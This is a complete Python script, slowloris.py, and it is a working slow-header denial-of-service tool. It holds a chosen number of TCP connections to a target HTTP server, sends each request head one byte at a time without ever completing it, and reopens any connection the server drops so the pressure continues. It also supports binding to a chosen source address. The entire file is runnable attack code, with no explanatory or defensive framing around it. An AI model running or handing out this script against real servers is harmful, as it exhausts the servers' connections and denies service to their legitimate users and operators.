#!/usr/bin/env python3
"""slowloris.py HOST PORT N SECONDS [SRC]: hold N TCP connections to
HOST:PORT, each sending a request head one byte at a time and never
finishing it; a connection the server closes is opened again at once.
Prints how many connections were opened in all."""
import socket
import sys
import time


def connect(host, port, src):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if src:
        s.bind((src, 0))
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    return [s, b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000, 0]


def main():
    host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    src = sys.argv[5] if len(sys.argv) > 5 else None
    conns = [connect(host, port, src) for _ in range(n)]
    opened = n
    end = time.time() + secs
    while time.time() < end:
        for i, c in enumerate(conns):
            s, head, at = c
            try:
                s.send(head[at:at + 1])
                c[2] = (at + 1) % len(head)
                s.setblocking(False)
                if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                    raise ConnectionError
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                s.close()
                conns[i] = connect(host, port, src)
                opened += 1
        time.sleep(0.2)
    for c in conns:
        c[0].close()
    print(opened)


if __name__ == "__main__":
    main()
